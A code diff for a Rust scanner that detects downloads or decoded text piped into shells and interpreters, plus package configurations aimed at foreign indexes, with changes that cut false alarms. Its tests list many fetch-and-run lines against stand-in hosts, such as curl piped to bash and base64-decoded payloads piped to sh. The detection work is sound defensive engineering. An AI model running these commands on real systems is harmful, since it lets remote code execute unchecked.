@@ -268,6 +268,34 @@ impl Scanner {
     }
 
     fn inner(&mut self, line: &[u8], at: usize, commands: bool, before: &[u8], out: &mut Vec<Hit>) {
+        let n = out.len();
+        self.words(line, at, commands, before, out);
+        if !commands {
+            return;
+        }
+        // A message printed for the reader (`echo "Install uv: curl -LsSf URL | sh"`,
+        // `print("Run: sudo apt install x")`) runs nothing: what it spells is no download,
+        // upload or risky command. Its hosts and secrets still count.
+        let mut printed = Vec::new();
+        printed_text(line, &mut printed);
+        if printed.is_empty() {
+            return;
+        }
+        // The ranges are in order and apart: one binary search per hit.
+        let tail = out.split_off(n);
+        out.extend(tail.into_iter().filter(|h| {
+            let col = h.col - at;
+            let k = printed.partition_point(|&(s, _)| s <= col);
+            let inside = k > 0 && col < printed[k - 1].1;
+            !(inside
+                && matches!(
+                    h.kind,
+                    HitKind::Download | HitKind::Upload | HitKind::RiskyCommand
+                ))
+        }));
+    }
+
+    fn words(&mut self, line: &[u8], at: usize, commands: bool, before: &[u8], out: &mut Vec<Hit>) {
         self.lower.clear();
         self.lower.extend(line.iter().map(u8::to_ascii_lowercase));
         tokenize(line, &mut self.toks);
@@ -296,6 +324,8 @@ impl Scanner {
         // `bash -c "curl -X POST ..."` merely runs curl.
         let mut shc_at: Option<usize> = None;
         let mut net_cmd = false;
+        // Inline code read after pipes ([`inline_runs_stdin`]), in all, on this line.
+        let inline_budget = std::cell::Cell::new(64 * 1024);
         for (i, t) in toks.iter().enumerate() {
             let lt = &lower[t.s..t.e];
             let ot = &line[t.s..t.e];
@@ -316,13 +346,22 @@ impl Scanner {
                 // Skip a few wrappers and flags (`| sudo -E bash`); bounded, so a line of
                 // pipes and flags stays linear.
                 let mut j = i;
-                while j < i + 8
-                    && (one_of(base(tok(j)), &[b"sudo", b"doas", b"env"])
-                        || tok(j).starts_with(b"-"))
-                {
-                    j += 1;
+                while j < i + 8 {
+                    let w = toks.get(j).map_or(&[][..], |t| &line[t.s..t.e]);
+                    let assign = toks.get(j).is_some_and(|t| line.get(t.e) == Some(&b'='));
+                    if one_of(base(tok(j)), &[b"sudo", b"doas", b"env"]) {
+                        j += 1;
+                    } else if assign || wrapper_option_value(w) {
+                        // `env PATH=$PATH bash`, `sudo -u deploy bash`: the option's value
+                        // (or the variable's) is not the program.
+                        j += 2;
+                    } else if w.starts_with(b"-") {
+                        j += 1;
+                    } else {
+                        break;
+                    }
                 }
-                if fetch_at.is_some() && one_of(base(tok(j)), SHELLS) {
+                if fetch_at.is_some() && runs_stdin(toks, lower, line, j, &inline_budget) {
                     push(
                         out,
                         HitKind::RiskyCommand,
@@ -330,7 +369,7 @@ impl Scanner {
                         "download piped to a shell".into(),
                     );
                 }
-                if decode_at.is_some() && one_of(base(tok(j)), SHELLS) {
+                if decode_at.is_some() && runs_stdin(toks, lower, line, j, &inline_budget) {
                     push(out, HitKind::RiskyCommand, t.s, DECODED_RUN.into());
                 }
             }
@@ -606,6 +645,382 @@ impl Scanner {
     }
 }
 
+/// An option of `sudo`, `doas` or `env` that takes the next word as its value (`-u deploy`,
+/// `-g staff`, `-C /srv`): that word is not the program run.
+fn wrapper_option_value(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"-u"
+            | b"-g"
+            | b"-p"
+            | b"-r"
+            | b"-t"
+            | b"-C"
+            | b"-D"
+            | b"-h"
+            | b"-U"
+            | b"-T"
+            | b"--user"
+            | b"--group"
+            | b"--chdir"
+            | b"--unset"
+    )
+}
+
+/// The quoted strings of a line that a command only prints: the arguments of `echo` /
+/// `printf`, and of `print(` / `console.log(` / `console.error(` / `console.warn(`, as byte
+/// ranges. Not a string that can run something: a double-quoted one holding a command
+/// substitution (`$(`, a backtick), nor any of a command whose output goes on to a pipe (`echo
+/// "curl x | sh" | sh`) or into a file (`> install.sh`, which may be run next); `>&2` is the
+/// terminal. One pass over the line.
+fn printed_text(line: &[u8], out: &mut Vec<(usize, usize)>) {
+    let mut pending: Vec<(usize, usize)> = Vec::new();
+    let mut printing = false;
+    let mut i = 0;
+    while i < line.len() {
+        let b = line[i];
+        match b {
+            b'"' | b'\'' => {
+                let mut j = i + 1;
+                while j < line.len() && line[j] != b {
+                    j += if b == b'"' && line[j] == b'\\' { 2 } else { 1 };
+                }
+                let end = j.min(line.len());
+                let body = &line[i + 1..end];
+                let runs = b == b'"'
+                    && (memchr::memmem::find(body, b"$(").is_some() || body.contains(&b'`'));
+                if printing && !runs {
+                    pending.push((i + 1, end));
+                }
+                i = end + 1;
+                continue;
+            }
+            b'|' if line.get(i + 1) != Some(&b'|') && (i == 0 || line[i - 1] != b'|') => {
+                pending.clear();
+                printing = false;
+            }
+            b'>' if line.get(i + 1) != Some(&b'&') => {
+                pending.clear();
+                printing = false;
+            }
+            b';' | b'&' | b'|' | b')' | b'\n' => {
+                out.append(&mut pending);
+                printing = false;
+            }
+            _ if (i == 0 || is_delim(line[i - 1])) && !is_delim(b) => {
+                let end = line[i..]
+                    .iter()
+                    .position(|&c| is_delim(c))
+                    .map_or(line.len(), |p| i + p);
+                let word = &line[i..end];
+                if matches!(word, b"echo" | b"printf")
+                    || (line.get(end) == Some(&b'(')
+                        && matches!(
+                            word,
+                            b"print" | b"console.log" | b"console.error" | b"console.warn"
+                        ))
+                {
+                    printing = true;
+                }
+                i = end;
+                continue;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    out.append(&mut pending);
+}
+
+/// Whether the program at token `j` (after a pipe, past `sudo` / `env` and their flags) runs
+/// what it reads on standard input as code. An interpreter given a script file (`python3
+/// save.py`, `bash check.sh`) or a module (`python3 -m json.tool`) reads its standard input as
+/// data; one given nothing, `-`, `/dev/stdin`, `-s` (shells), `-Command -` (PowerShell) runs
+/// it. Inline code (`-c`, `-e`, `-Command TEXT`) runs it only when the code evaluates what it
+/// reads there ([`inline_runs_stdin`]). Bounded: at most 16 arguments are looked at, and past
+/// them (or on an option not known) the answer is yes: a miss is worse than a false alarm.
+fn runs_stdin(
+    toks: &[Tok],
+    lower: &[u8],
+    line: &[u8],
+    j: usize,
+    budget: &std::cell::Cell<usize>,
+) -> bool {
+    #[derive(PartialEq, Clone, Copy)]
+    enum Family {
+        Shell,
+        Python,
+        Perl,
+        Ruby,
+        Node,
+        Pwsh,
+        WindowsPowerShell,
+    }
+    let Some(t) = toks.get(j) else {
+        return false;
+    };
+    let w = base(&lower[t.s..t.e]);
+    if !one_of(w, SHELLS) {
+        return false;
+    }
+    let family = match w {
+        b"sh" | b"bash" | b"zsh" | b"dash" | b"ksh" | b"fish" => Family::Shell,
+        b"python" | b"python3" => Family::Python,
+        b"perl" => Family::Perl,
+        b"ruby" => Family::Ruby,
+        b"node" => Family::Node,
+        b"pwsh" => Family::Pwsh,
+        b"powershell" => Family::WindowsPowerShell,
+        // `iex`, `Invoke-Expression`, `source`: run what they are given.
+        _ => return true,
+    };
+    let is_stdin = |a: &[u8]| matches!(a, b"-" | b"/dev/stdin" | b"/dev/fd/0" | b"/proc/self/fd/0");
+    let args = &toks[j + 1..];
+    let mut k = 0;
+    while k < args.len().min(16) {
+        let a = args[k];
+        if a.pipe_before || a.sep_before {
+            // The command ends with no script named: it reads its code from standard input.
+            return true;
+        }
+        let arg = &line[a.s..a.e];
+        let low = &lower[a.s..a.e];
+        // `--opt=value`: the tokenizer splits at `=`; the value is the next token.
+        let attached = line.get(a.e) == Some(&b'=');
+        // What the shell takes out of the interpreter's arguments: a redirection's target
+        // (`> install.log`, `2>/dev/null`, its file descriptor), and a comment, which ends the
+        // command (`| bash    # macOS / Linux`).
+        let gap = &line[if k == 0 { t.e } else { args[k - 1].e }..a.s];
+        if gap.iter().any(|&b| matches!(b, b'>' | b'<')) && !gap.ends_with(b"<(") {
+            k += 1;
+            continue;
+        }
+        if matches!(line.get(a.e), Some(b'>' | b'<')) && arg.iter().all(u8::is_ascii_digit) {
+            k += 1;
+            continue;
+        }
+        // A comment, or the end of the string or call the command sits in (`"... | sh",
+        // shell=True)`, `$(curl .. | sh)`): nothing after is the interpreter's.
+        if arg.starts_with(b"#") || gap.iter().any(|&b| matches!(b, b')' | b',')) {
+            return true;
+        }
+        if is_stdin(low) {
+            return true;
+        }
+        if family == Family::Pwsh || family == Family::WindowsPowerShell {
+            let Some(name) = low.strip_prefix(b"-") else {
+                // A positional argument: pwsh's is a script file; Windows PowerShell's is the
+                // command itself.
+                return family == Family::WindowsPowerShell
+                    && inline_runs_stdin(line, a.s, false, budget);
+            };
+            let name = name.strip_prefix(b"-").unwrap_or(name);
+            let is = |full: &[u8], short: &[&[u8]]| {
+                short.contains(&name) || (name.len() >= 3 && full.starts_with(name))
+            };
+            if is(b"command", &[b"c"]) {
+                return match args.get(k + 1) {
+                    None => true,
+                    Some(v) if is_stdin(&lower[v.s..v.e]) => true,
+                    Some(v) => inline_runs_stdin(line, v.s, false, budget),
+                };
+            }
+            if is(b"file", &[b"f"]) {
+                return args.get(k + 1).is_none_or(|v| is_stdin(&lower[v.s..v.e]));
+            }
+            if is(b"encodedcommand", &[b"e", b"ec", b"enc"]) {
+                // Runs its argument (reported as decoded text on its own), not standard input.
+                return false;
+            }
+            let valued = is(b"executionpolicy", &[b"ep", b"ex"])
+                || is(b"windowstyle", &[b"w"])
+                || is(b"outputformat", &[b"o", b"of"])
+                || is(b"inputformat", &[b"if", b"in"])
+                || is(b"configurationname", &[b"config"])
+                || is(b"configurationfile", &[])
+                || is(b"workingdirectory", &[b"wd"])
+                || is(b"settingsfile", &[b"settings"])
+                || is(b"custompipename", &[])
+                || is(b"version", &[b"v"]);
+            k = if valued { k + 2 } else { k + 1 };
+            continue;
+        }
+        if arg == b"--" {
+            // What follows is the script, if anything.
+            return args
+                .get(k + 1)
+                .is_none_or(|v| v.pipe_before || v.sep_before || is_stdin(&lower[v.s..v.e]));
+        }
+        if let Some(long) = arg.strip_prefix(b"--") {
+            let valued = match family {
+                Family::Shell => matches!(long, b"rcfile" | b"init-file"),
+                Family::Python => long == b"check-hash-based-pycs",
+                Family::Node => {
+                    if matches!(long, b"eval" | b"print") {
+                        return args
+                            .get(k + 1)
+                            .is_some_and(|v| inline_runs_stdin(line, v.s, false, budget));
+                    }
+                    matches!(
+                        long,
+                        b"require"
+                            | b"import"
+                            | b"loader"
+                            | b"experimental-loader"
+                            | b"conditions"
+                            | b"input-type"
+                            | b"env-file"
+                            | b"title"
+                    )
+                }
+                Family::Perl | Family::Ruby => false,
+                Family::Pwsh | Family::WindowsPowerShell => false,
+            };
+            k = if valued || attached { k + 2 } else { k + 1 };
+            continue;
+        }
+        let cluster = match arg.strip_prefix(b"-").or_else(|| {
+            // `set +o` spellings: `bash +o posix`.
+            (family == Family::Shell)
+                .then(|| arg.strip_prefix(b"+"))
+                .flatten()
+        }) {
+            Some(c) => c,
+            // A script file: standard input is its data.
+            None => return false,
+        };
+        // Short options, possibly clustered (`-xs`, `-uc`, `-ne`): the first that decides.
+        let mut skip_value = false;
+        for (n, &c) in cluster.iter().enumerate() {
+            let rest = &cluster[n + 1..];
+            // Inline code: in the rest of the cluster, else the next argument.
+            let inline = |k: usize| {
+                if rest.is_empty() {
+                    args.get(k + 1).is_some_and(|v| {
+                        inline_runs_stdin(line, v.s, family == Family::Shell, budget)
+                    })
+                } else {
+                    inline_runs_stdin(line, a.s + 1 + n + 1, family == Family::Shell, budget)
+                }
+            };
+            match (family, c) {
+                (Family::Shell, b'c') => return inline(k),
+                (Family::Shell, b's') => return true,
+                (Family::Shell, b'o' | b'O') => {
+                    skip_value = true;
+                    break;
+                }
+                (Family::Python, b'c') => return inline(k),
+                (Family::Python, b'm') => return false,
+                (Family::Python, b'W' | b'X') => {
+                    skip_value = rest.is_empty();
+                    break;
+                }
+                (Family::Perl, b'e' | b'E') | (Family::Ruby, b'e') => return inline(k),
+                (
+                    Family::Perl,
+                    b'M' | b'm' | b'I' | b'i' | b'x' | b'C' | b'F' | b'd' | b'D' | b'V',
+                ) => {
+                    break;
+                }
+                (
+                    Family::Ruby,
+                    b'r' | b'I' | b'C' | b'E' | b'x' | b'0' | b'K' | b'T' | b'W' | b'F',
+                ) => {
+                    skip_value = rest.is_empty() && matches!(c, b'r' | b'I' | b'C' | b'E');
+                    break;
+                }
+                (Family::Node, b'e' | b'p') => return inline(k),
+                (Family::Node, b'r' | b'C') => {
+                    skip_value = rest.is_empty();
+                    break;
+                }
+                _ => {}
+            }
+        }
+        k = if skip_value { k + 2 } else { k + 1 };
+    }
+    // Nothing named a script within the bound (or the command ends): its code is standard input.
+    true
+}
+
+/// Whether inline code (`python3 -c CODE`, `node -e CODE`, `sh -c CODE`, `pwsh -Command
+/// CODE`) starting at byte `at` of `line` runs what it reads on standard input: it evaluates
+/// (`exec`, `eval`, `iex`, `Function`, `compile`) and reads standard input (`sys.stdin`,
+/// `input()`, `<STDIN>`, `<>`, `readFileSync(0`, `$input`, `[Console]::In`), or is what the
+/// pipe brings (`"$(cat)"`, which the shell expands into it). In a shell's `-c` code, also
+/// `source`, `eval` or any shell or interpreter word, which reads the same standard input: a
+/// shell's code is commands, and any of them can.
+/// The code is the quoted string starting there (up to its closing quote, 4 KiB at most),
+/// else one word. `budget`: the bytes of inline code a line may still have read (so a line of
+/// many pipes stays linear); once spent, the answer is yes.
+fn inline_runs_stdin(line: &[u8], at: usize, shell: bool, budget: &std::cell::Cell<usize>) -> bool {
+    let (s, quote) = match at.checked_sub(1).map(|p| line[p]) {
+        Some(q @ (b'"' | b'\'')) => (at, Some(q)),
+        _ => match line.get(at) {
+            Some(&q @ (b'"' | b'\'')) => (at + 1, Some(q)),
+            _ => (at, None),
+        },
+    };
+    let s = s.min(line.len());
+    let window = &line[s..line.len().min(s + 4096.min(budget.get()))];
+    if window.is_empty() && budget.get() == 0 {
+        return true;
+    }
+    let end = match quote {
+        // A double-quoted string ends at its first quote not escaped by a backslash.
+        Some(q) => {
+            let mut i = 0;
+            while i < window.len() && window[i] != q {
+                i += if q == b'"' && window[i] == b'\\' {
+                    2
+                } else {
+                    1
+                };
+            }
+            i.min(window.len())
+        }
+        None => window
+            .iter()
+            .position(|&b| is_delim(b))
+            .unwrap_or(window.len()),
+    };
+    budget.set(budget.get().saturating_sub(end.max(1)));
+    let code = window[..end].to_ascii_lowercase();
+    let has = |n: &[u8]| memchr::memmem::find(&code, n).is_some();
+    // `python3 -c "$(cat)"`: the shell puts what the pipe brings into the code itself.
+    if has(b"$(cat") {
+        return true;
+    }
+    let reads_stdin = has(b"stdin")
+        || has(b"input(")
+        || has(b"$input")
+        || has(b"<>")
+        || has(b"readfilesync(0")
+        || has(b"console]::in")
+        || has(b"/dev/fd/0");
+    if shell {
+        let mut toks = Vec::new();
+        tokenize(&code, &mut toks);
+        return reads_stdin
+            || has(b"$(cat")
+            || toks.iter().any(|t| {
+                let w = base(&code[t.s..t.e]);
+                one_of(w, SHELLS) || one_of(w, EVALS)
+            });
+    }
+    let evaluates = has(b"exec")
+        || has(b"eval")
+        || has(b"iex")
+        || has(b"invoke-expression")
+        || has(b"compile(")
+        || has(b"function(")
+        || has(b"runinthiscontext")
+        || has(b"runinnewcontext")
+        || has(b"scriptblock]::create");
+    evaluates && reads_stdin
+}
+
 /// The subject of text decoded (base64, hex, ...) and then run by a shell or interpreter.
 pub const DECODED_RUN: &str = "eval of decoded text";
 /// The subject of a package install pointed at an index other than the registry's own.
@@ -667,11 +1082,12 @@ pub fn is_decoder_command(word: &str) -> bool {
 /// A line of a package manager's configuration that points it at an index other than the
 /// registry's own: where the URL starts. `keys`: a configuration file's keys count
 /// (`index-url = URL` in `pip.conf` / `uv.toml`, `registry=URL` and `@scope:registry=URL` in
-/// `.npmrc`, `npmRegistryServer: URL` in `.yarnrc.yml`, `url = URL` in an `[[index]]` table);
-/// without, only a requirements file's options (`--index-url URL`, `-i URL`,
-/// `--extra-index-url`, `--find-links`, `-f`), which `pip install -r` reads from any `.txt`.
+/// `.npmrc`, `npmRegistryServer: URL` in `.yarnrc.yml`); `url`: the line sits where a `url` key
+/// names an index (uv's `[[tool.uv.index]]` / `[[index]]`, or an inline table there: `{ name =
+/// "x", url = URL }`), so a `url` key anywhere on it counts; without either, only a requirements
+/// file's options (`--index-url URL`, `-i URL`, `--extra-index-url`, `--find-links`, `-f`).
 /// One pass over the line.
-pub fn index_setting(line: &[u8], keys: bool) -> Option<usize> {
+pub fn index_setting(line: &[u8], keys: bool, url: bool) -> Option<usize> {
     let start = line.len() - line.trim_ascii_start().len();
     let rest = &line[start..];
     let key_len = rest
@@ -697,18 +1113,35 @@ pub fn index_setting(line: &[u8], keys: bool) -> Option<usize> {
                 | b"default-index"
                 | b"registry"
                 | b"npmregistryserver"
-                | b"url"
         ) || key.ends_with(b":registry"));
-    if !option && !setting {
+    let mut toks = Vec::new();
+    let foreign = |at: usize, toks: &[Tok]| {
+        toks.iter()
+            .find(|t| memchr::memmem::find(&line[at + t.s..at + t.e], b"://").is_some())
+            .filter(|t| foreign_index(&line[at + t.s..at + t.e].to_ascii_lowercase()))
+            .map(|t| at + t.s)
+    };
+    if option || setting {
+        let at = start + key_len;
+        tokenize(&line[at..], &mut toks);
+        return foreign(at, &toks);
+    }
+    if !url {
         return None;
     }
-    let at = start + key_len;
-    let mut toks = Vec::new();
-    tokenize(&line[at..], &mut toks);
-    toks.iter()
-        .find(|t| memchr::memmem::find(&line[at + t.s..at + t.e], b"://").is_some())
-        .filter(|t| foreign_index(&line[at + t.s..at + t.e].to_ascii_lowercase()))
-        .map(|t| at + t.s)
+    // `url = URL`, as the line's key or in an inline table: the value after a `url` key.
+    tokenize(line, &mut toks);
+    let i = toks.iter().position(|t| {
+        line[t.s..t.e].eq_ignore_ascii_case(b"url")
+            && line[t.e..]
+                .iter()
+                .find(|&&b| !matches!(b, b' ' | b'\t' | b'"' | b'\''))
+                == Some(&b'=')
+    })?;
+    // The value: the next token, which the scan reads as a URL.
+    toks.get(i + 1)
+        .filter(|t| foreign_index(&line[t.s..t.e].to_ascii_lowercase()))
+        .map(|t| t.s)
 }
 
 /// A word that decodes text: `base64 -d`, `base32 --decode`, `xxd -r`, `openssl enc -d`,
@@ -1510,6 +1943,168 @@ mod tests {
         assert!(hits_in("base64 -d x | sh", Mode::Data, "").is_empty());
     }
 
+    /// An interpreter given a script file, a module or inline code reads what is piped into it
+    /// as data; given nothing, `-`, `/dev/stdin`, `-s` or `-Command -` it runs it, and so does
+    /// inline code that evaluates what it reads there.
+    #[test]
+    fn piped_into_an_interpreter_runs_only_when_it_reads_code_there() {
+        use HitKind::RiskyCommand as R;
+        const DL: &str = "download piped to a shell";
+        for tail in [
+            "python3",
+            "python3 -",
+            "python3 -u -",
+            "python3 -W ignore",
+            "python3 /dev/stdin",
+            "bash",
+            "sh -s",
+            "bash -s -- --prefix /opt",
+            "bash -xs stable",
+            "bash -o pipefail",
+            "sudo -E bash",
+            "sudo -E bash -s -- -y",
+            "sudo -u deploy bash",
+            "sudo -E env PATH=/opt/bin:/usr/bin bash -s",
+            "env -u PYTHONPATH python3 -",
+            "node",
+            "node -",
+            "node -r ts-node/register",
+            "perl",
+            "ruby -",
+            "pwsh -Command -",
+            "pwsh -NoProfile -ExecutionPolicy Bypass -Command -",
+            "powershell -c -",
+            "pwsh",
+            "iex",
+            "python3 -c \"exec(sys.stdin.read())\"",
+            "python3 -c \"import sys; exec(sys.stdin.read())\"",
+            "python3 -c 'exec(input())'",
+            "node -e \"eval(require('fs').readFileSync(0, 'utf8'))\"",
+            "perl -e 'eval join q(), <STDIN>'",
+            "sh -c \"$(cat)\"",
+            "python3 -c \"$(cat)\"",
+            "bash -c 'eval \"$(cat)\"'",
+            "sh -c 'cd /tmp && bash'",
+            "pwsh -Command '$input | iex'",
+            "powershell \"$input | Invoke-Expression\"",
+            "bash    # macOS / Linux",
+            "sh > install.log 2>&1",
+            "sudo bash 2>/dev/null",
+            "python3 -u 2>/dev/null",
+        ] {
+            let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
+            assert!(has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
+            let decoded = format!("base64 -d payload.b64 | {tail}");
+            assert!(
+                has(&decoded, R, DECODED_RUN),
+                "{decoded}: {:?}",
+                hits(&decoded)
+            );
+            assert!(runs_decoded(decoded.as_bytes()), "{decoded}");
+        }
+        for tail in [
+            "python3 save.py",
+            "python3 scripts/save.py --out x.json",
+            "python3 -u scripts/save.py",
+            "python3 -W ignore save.py",
+            "python3 -m json.tool",
+            "python3 -c \"import sys, json; print(json.load(sys.stdin)['tag_name'])\"",
+            "python3 -c 'print(1)'",
+            "sudo python3 save.py",
+            "sudo -u deploy python3 save.py",
+            "bash scripts/check.sh",
+            "bash -o pipefail check.sh",
+            "bash -x -- check.sh",
+            "sh -c 'cat > out.txt'",
+            "node scripts/parse.js",
+            "node --input-type=module scripts/parse.mjs",
+            "node -e \"process.stdin.pipe(process.stdout)\"",
+            "perl -ne 'print if /v/'",
+            "perl -lne 'print $1 if /x(\\d+)/'",
+            "ruby -rjson -e 'puts JSON.parse(STDIN.read)'",
+            "pwsh -File parse.ps1",
+            "pwsh -NoProfile parse.ps1",
+            "pwsh -Command 'ConvertFrom-Json $input'",
+            "python3 scripts/save.py > out.json 2>&1 # keep the log",
+        ] {
+            let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
+            assert!(!has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
+            let decoded = format!("base64 -d payload.b64 | {tail}");
+            assert!(
+                !has(&decoded, R, DECODED_RUN),
+                "{decoded}: {:?}",
+                hits(&decoded)
+            );
+            assert!(!runs_decoded(decoded.as_bytes()), "{decoded}");
+        }
+        // A download still counts as one.
+        assert!(has(
+            "curl -fsSL https://get.pdfhost.net/x | python3 save.py",
+            HitKind::Download,
+            "curl"
+        ));
+    }
+
+    /// A message a script prints names commands it does not run; printed into a pipe or a
+    /// file, or holding a command substitution, it can run them.
+    #[test]
+    fn printed_messages_run_nothing() {
+        use HitKind::{Download as D, ExternalReference as E, RiskyCommand as R};
+        let quiet = [
+            "echo \"ERROR: uv not found. Install with: curl -LsSf https://astral.sh/uv/install.sh | sh\"",
+            "  echo \"Install uv: curl -LsSf https://astral.sh/uv/install.sh | sh\" >&2",
+            "command -v uv || { echo 'Install: curl -LsSf https://astral.sh/uv/install.sh | sh'; exit 1; }",
+            "echo \"   Start with: sudo systemctl start docker\"",
+            "printf '%s\\n' \"run: sudo rm -rf /var/cache/acme\" 1>&2",
+            "print(\"Install with: sudo apt install imagemagick curl\")",
+            "console.error(\"missing: npm install -g pnpm\");",
+        ];
+        for line in quiet {
+            let h = hits(line);
+            assert!(
+                h.iter().all(|(k, _)| !matches!(k, D | R | HitKind::Upload)),
+                "{line}: {h:?}"
+            );
+        }
+        // The host a message names is still one the script names.
+        assert!(has(quiet[0], E, "astral.sh"));
+        for (line, kind, subject) in [
+            (
+                "echo \"curl -fsSL https://get.pdfhost.net/i.sh | sh\" | sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "echo 'curl -fsSL https://get.pdfhost.net/i.sh | sh' > run.sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "echo \"v=$(curl -fsSL https://get.pdfhost.net/v)\"",
+                D,
+                "curl",
+            ),
+            (
+                "echo Installing; curl -fsSL https://get.pdfhost.net/i.sh | sh",
+                R,
+                "download piped to a shell",
+            ),
+            ("echo \"installing\"; sudo make install", R, "sudo"),
+            (
+                "echo curl -fsSL https://get.pdfhost.net/i.sh | sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "subprocess.run(\"curl -fsSL https://get.pdfhost.net/i.sh | sh\", shell=True)",
+                R,
+                "download piped to a shell",
+            ),
+        ] {
+            assert!(has(line, kind, subject), "{line}: {:?}", hits(line));
+        }
+    }
+
     /// A package manager pointed at another index: a download from that host, on a command
     /// line or in the manager's configuration; the registries' own indexes and local paths
     /// are not.
@@ -1535,7 +2130,7 @@ mod tests {
         ] {
             assert!(!has(line, D, PACKAGE_INDEX), "{line}: {:?}", hits(line));
         }
-        let at = |line: &str, keys| index_setting(line.as_bytes(), keys);
+        let at = |line: &str, keys| index_setting(line.as_bytes(), keys, false);
         assert_eq!(
             at("--index-url https://evil.pdfhost.net/simple", false),
             Some(12)
@@ -1548,7 +2143,6 @@ mod tests {
         assert!(at("registry=https://npm.evilhost.net/", true).is_some());
         assert!(at("@acme:registry=https://npm.evilhost.net/", true).is_some());
         assert!(at("npmRegistryServer: \"https://npm.evilhost.net\"", true).is_some());
-        assert!(at("url = \"https://evil.pdfhost.net/simple\"", true).is_some());
         assert!(
             at(
                 "extra-index-url = [\"https://evil.pdfhost.net/simple\"]",
@@ -1563,6 +2157,18 @@ mod tests {
         assert!(at("requests>=2 # see https://evil.pdfhost.net", false).is_none());
         assert!(at("homepage = https://evil.pdfhost.net", true).is_none());
         assert!(at("--index-url https://localhost:8080/simple", false).is_none());
+        // `url` names an index only where the caller says it does (uv's index tables), as the
+        // line's key or in an inline table; elsewhere it is a link.
+        let url = |line: &str| index_setting(line.as_bytes(), true, true);
+        assert!(at("url = \"https://evil.pdfhost.net/simple\"", true).is_none());
+        assert_eq!(url("url = \"https://evil.pdfhost.net/simple\""), Some(7));
+        assert!(url("  { name = \"x\", url = \"https://evil.pdfhost.net/simple\" },").is_some());
+        assert!(
+            url("index = [{ name = \"x\", \"url\" = \"https://evil.pdfhost.net/s\" }]").is_some()
+        );
+        assert!(url("url = \"https://pypi.org/simple\"").is_none());
+        assert!(url("publish-url = \"https://evil.pdfhost.net/legacy\"").is_none());
+        assert!(url("name = \"url\"").is_none());
     }
 
     fn hits_in(line: &str, mode: Mode, before: &str) -> Vec<(HitKind, String)> {
@@ -1922,6 +2528,12 @@ mod tests {
             "``` ",
             "curl -F ",
             "files= ",
+            "curl | python3 -c \"a ",
+            "curl | sh -c 'a ",
+            "base64 -d | pwsh -c \"\\\" ",
+            "curl | bash -o x ",
+            "echo \"curl | sh\" ",
+            "print(' ",
             "xmlns:a=\"http://h.pdfhost.net\" ",
         ] {
             let line = unit.repeat(1_000_000 / unit.len());
